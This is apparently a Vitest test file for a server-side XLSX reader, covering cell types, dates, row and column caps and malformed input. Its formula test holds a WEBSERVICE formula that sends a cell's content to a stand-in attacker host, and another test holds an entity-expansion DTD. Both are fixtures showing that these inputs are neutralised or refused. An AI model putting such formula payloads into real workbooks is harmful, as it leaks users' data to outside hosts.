import { readFileSync } from 'node:fs';
import { strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { cellTexts } from '../../../server/formats/sheetCell.js';
import { isDateFormatCode } from '../../../server/formats/xlsxDateStyles.js';
import { columnIndex, readXlsx, readXlsxRows } from '../../../server/formats/xlsxReader.js';
import { catchFormatError } from './catchFormatError.js';
import { DATE_STYLES, buildXlsx, inlineCell, worksheet } from './xlsxFixtures.js';

/** Calendar date of a 1900-system serial after 28/02/1900, computed independently of the reader. */
const isoOfSerial = (serial: number): string => new Date(Date.UTC(1899, 11, 30) + Math.floor(serial) * 86_400_000).toISOString().slice(0, 10);

describe('readXlsx: cell types', () => {
  it('reads shared strings (with rich-text runs, phonetic guides skipped, _x escapes decoded) and inline strings', () => {
    const xlsx = buildXlsx({
      sharedStringsXml:
        '<si><t>Date</t></si>' +
        '<si><r><rPr><b/></rPr><t>Key </t></r><r><t xml:space="preserve">event / action</t></r><rPh sb="0" eb="1"><t>ケー</t></rPh></si>' +
        '<si><t>Line one_x000D_\nLine two &amp; &lt;three&gt;</t></si>',
      sheetData:
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>' +
        `<row r="2"><c r="A2" t="s"><v>2</v></c>${inlineCell('B2', 'Zoë — “quoted” 日本 🙂')}</row>` +
        '<row r="3"><c r="A3" t="inlineStr"><is><r><t>rich </t></r><r><t>inline</t></r></is></c></row>',
    });
    expect(cellTexts(readXlsxRows(xlsx))).toEqual([['Date', 'Key event / action'], ['Line one\r\nLine two & <three>', 'Zoë — “quoted” 日本 🙂'], ['rich inline']]);
  });

  it('keeps numbers, booleans and error values, and places cells by reference with gaps', () => {
    const xlsx = buildXlsx({
      sheetData:
        '<row r="2"><c r="B2"><v>3.5</v></c><c r="D2" t="b"><v>1</v></c><c r="E2" t="b"><v>0</v></c></row>' +
        '<row r="4"><c r="C4" t="e"><v>#N/A</v></c><c r="A4"><v>1E-3</v></c></row>',
    });
    const rows = readXlsxRows(xlsx);
    expect(cellTexts(rows)).toEqual([[], ['', '3.5', '', 'TRUE', 'FALSE'], [], ['0.001', '', '#N/A']]);
    expect(rows[1]![1]).toEqual({ text: '3.5', number: 3.5 });
    expect(rows[3]![0]!.number).toBe(0.001);
    expect(rows[1]![0]!.number).toBeUndefined();
  });

  it('reads cells and rows without r attributes in document order', () => {
    const xlsx = buildXlsx({ sheetData: `<row>${inlineCell('', 'a').replace(' r=""', '')}<c><v>2</v></c></row><row><c t="inlineStr"><is><t>b</t></is></c></row>` });
    expect(cellTexts(readXlsxRows(xlsx))).toEqual([['a', '2'], ['b']]);
  });

  it('trims each row after its last value and drops empty styled cells and empty rows at the end', () => {
    const xlsx = buildXlsx({
      sheetData: `<row r="1">${inlineCell('A1', 'x')}<c r="Z1" s="0"/></row><row r="9000" ht="20" customHeight="1"><c r="XFD9000" s="0"/></row>`,
    });
    expect(cellTexts(readXlsxRows(xlsx, { limits: { maxRows: 10, maxColumns: 5 } }))).toEqual([['x']]);
  });

  it('reads the sheet named or indexed in the options', () => {
    const xlsx = buildXlsx({ sheetData: `<row>${inlineCell('A1', 'first')}</row>`, moreSheets: [{ name: 'Org changes', sheetData: `<row>${inlineCell('A1', 'second')}</row>` }] });
    expect(readXlsx(xlsx).sheetName).toBe('Chronology');
    expect(cellTexts(readXlsx(xlsx, { sheet: 'Org changes' }).rows)).toEqual([['second']]);
    expect(cellTexts(readXlsx(xlsx, { sheet: 1 }).rows)).toEqual([['second']]);
    expect(catchFormatError(() => readXlsx(xlsx, { sheet: 'Missing' })).code).toBe('xlsx_invalid');
  });
});

describe('readXlsx: a workbook saved by LibreOffice Calc', () => {
  it('reads shared strings, date-styled serials and cached formula results as the program wrote them', () => {
    const bytes = new Uint8Array(readFileSync(new URL('../../fixtures/formats/libreoffice-chronology.xlsx', import.meta.url)));
    const rows = readXlsxRows(bytes);
    expect(cellTexts(rows)).toEqual([
      ['Date', 'Agency', 'Key event', 'Count', 'Total'],
      ['43538', 'GP', 'Zoë seen – “well”', '3', '6'],
      ['43252', 'Police', '£5 café', '4.5', '5.5'],
    ]);
    expect(rows[1]![0]).toEqual({ text: '43538', number: 43538, isDate: true });
    expect(rows[1]![3]).toEqual({ text: '3', number: 3 });
    expect(isoOfSerial(rows[2]![0]!.number!)).toBe('2018-06-01');
  });
});

describe('readXlsx: formulas are never evaluated', () => {
  it('uses only the cached value of a formula, or nothing when there is none', () => {
    const xlsx = buildXlsx({
      sheetData:
        '<row r="1">' +
        '<c r="A1"><f>1+1</f><v>42</v></c>' +
        '<c r="B1" t="str"><f>WEBSERVICE("http://attacker.example/?"&amp;C1)</f><v>cached text</v></c>' +
        '<c r="C1"><f>HYPERLINK("http://attacker.example","click")</f></c>' +
        '<c r="D1" t="str"><f>CONCAT("=","cmd")</f><v></v></c>' +
        '<c r="E1" t="inlineStr"><is><t>=1+1</t></is></c>' +
        '</row>',
    });
    const [row] = readXlsxRows(xlsx);
    expect(cellTexts([row!])).toEqual([['42', 'cached text', '', '', '=1+1']]);
    expect(row![0]!.number).toBe(42);
    // The formula text appears nowhere in the output.
    expect(JSON.stringify(row)).not.toMatch(/WEBSERVICE|HYPERLINK|attacker/);
  });
});

describe('readXlsx: dates', () => {
  const dates = `<row r="1"><c r="A1" s="1"><v>43538</v></c><c r="B1" s="2"><v>43538.75</v></c><c r="C1" s="3"><v>43538</v></c><c r="D1"><v>43538</v></c><c r="E1" t="d"><v>2019-03-14T00:00:00Z</v></c></row>`;

  it('marks numbers with a date style as dates, and leaves other numbers alone', () => {
    const [row] = readXlsxRows(buildXlsx({ sheetData: dates, stylesXml: DATE_STYLES }));
    expect(row!.map((c) => c.isDate === true)).toEqual([true, true, false, false, true]);
    expect(row!.map((c) => c.number)).toEqual([43538, 43538.75, 43538, 43538, 43538]);
    expect(isoOfSerial(row![0]!.number!)).toBe('2019-03-14');
  });

  it('moves serials from 1904 workbooks to the 1900 system, so the same calendar date comes out', () => {
    const sheet = '<row r="1"><c r="A1" s="1"><v>42076</v></c><c r="B1"><v>42076</v></c></row>';
    const [row] = readXlsxRows(buildXlsx({ sheetData: sheet, stylesXml: DATE_STYLES, date1904: true }));
    expect(row![0]).toEqual({ text: '42076', number: 43538, isDate: true });
    expect(row![1]!.number).toBe(42076);
    expect(isoOfSerial(row![0]!.number!)).toBe('2019-03-14');
  });

  it.each([
    ['dd/mm/yyyy', true],
    ['[$-809]d mmmm yyyy;@', true],
    ['[h]:mm:ss', true],
    ['h:mm AM/PM', true],
    ['General', false],
    ['0.00', false],
    ['#,##0 "days"', false],
    ['[Red]0.0;[Blue]-0.0', false],
    ['0.0\\h', false],
  ])('treats the number format %j as a date: %s', (code, expected) => {
    expect(isDateFormatCode(code)).toBe(expected);
  });
});

describe('readXlsx: caps and malformed input', () => {
  const rowsOf = (n: number, cols = 1) =>
    Array.from(
      { length: n },
      (_, r) => `<row r="${r + 1}">${Array.from({ length: cols }, (_, c) => inlineCell(`${String.fromCharCode(65 + c)}${r + 1}`, 'x')).join('')}</row>`,
    ).join('');

  it('refuses more rows than the cap, counting up to the last non-empty row', () => {
    const err = catchFormatError(() => readXlsx(buildXlsx({ sheetData: rowsOf(11) }), { limits: { maxRows: 10 } }));
    expect([err.code, err.status]).toEqual(['too_many_rows', 413]);
    expect(readXlsxRows(buildXlsx({ sheetData: rowsOf(10) }), { limits: { maxRows: 10 } })).toHaveLength(10);
    const farRow = `<row r="50000">${inlineCell('A50000', 'x')}</row>`;
    expect(catchFormatError(() => readXlsx(buildXlsx({ sheetData: farRow }))).code).toBe('too_many_rows');
  });

  it('refuses more columns than the cap, and a far-away cell, without allocating the gap', () => {
    expect(catchFormatError(() => readXlsx(buildXlsx({ sheetData: rowsOf(1, 6) }), { limits: { maxColumns: 5 } })).code).toBe('too_many_columns');
    expect(readXlsxRows(buildXlsx({ sheetData: rowsOf(1, 5) }), { limits: { maxColumns: 5 } })[0]).toHaveLength(5);
    const far = `<row r="1">${inlineCell('XFD1', 'x')}</row>`;
    expect(catchFormatError(() => readXlsx(buildXlsx({ sheetData: far }))).message).toMatch(/more than 100 columns/);
  });

  it('refuses a cell longer than the cap, naming its row and column but not its content', () => {
    const err = catchFormatError(() => readXlsx(buildXlsx({ sheetData: `<row r="3">${inlineCell('B3', 'secret-name')}</row>` }), { limits: { maxCellChars: 5 } }));
    expect(err.code).toBe('cell_too_long');
    expect(err.message).toMatch(/Row 3, column 2/);
    expect(err.message).not.toMatch(/secret/);
  });

  it('refuses a legacy .xls (compound file) with a message that says what to do', () => {
    const xls = new Uint8Array(1024);
    xls.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const err = catchFormatError(() => readXlsx(xls));
    expect(err.code).toBe('legacy_office_file');
    expect(err.message).toMatch(/\.xls.*Save it as \.xlsx/);
  });

  it('refuses a DTD or entity declaration (no XXE, no billion laughs)', () => {
    const dtd = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet><sheetData/></worksheet>';
    expect(catchFormatError(() => readXlsx(buildXlsx({ sheetData: '', rawSheetXml: dtd }))).code).toBe('xml_dtd_forbidden');
  });

  it.each([
    ['a bad shared string index', '<row r="1"><c r="A1" t="s"><v>99</v></c></row>', 'xlsx_invalid'],
    ['a bad cell reference', '<row r="1"><c r="1A"><v>1</v></c></row>', 'xlsx_invalid'],
    ['a bad row number', '<row r="0"><c r="A1"><v>1</v></c></row>', 'xlsx_invalid'],
    ['an unknown cell type', '<row r="1"><c r="A1" t="zz"><v>1</v></c></row>', 'xlsx_invalid'],
    ['a non-numeric number', '<row r="1"><c r="A1"><v>abc</v></c></row>', 'xlsx_invalid'],
    ['unbalanced tags', '<row r="1"><c r="A1"><v>1</c></row>', 'xml_invalid'],
  ])('refuses %s', (_, sheetData, code) => {
    expect(catchFormatError(() => readXlsx(buildXlsx({ sheetData }))).code).toBe(code);
  });

  it('refuses a package without a workbook', () => {
    const xlsx = buildXlsx({ sheetData: '', extra: {} });
    const broken = buildXlsx({ sheetData: '', extra: { '_rels/.rels': strToU8('<Relationships/>'), 'xl/workbook.xml': strToU8('<workbook><sheets/></workbook>') } });
    expect(readXlsxRows(xlsx)).toEqual([]);
    expect(catchFormatError(() => readXlsx(broken)).message).toMatch(/no sheets/);
  });

  it('parses column letters up to Excel’s last column', () => {
    expect(['A1', 'Z9', 'AA1', '$B$2', 'XFD1', 'XFE1', 'A', '1'].map(columnIndex)).toEqual([0, 25, 26, 1, 16383, undefined, undefined, undefined]);
  });

  it('works on a plain worksheet built with the shared helper', () => {
    expect(worksheet('')).toContain('<sheetData></sheetData>');
  });
});
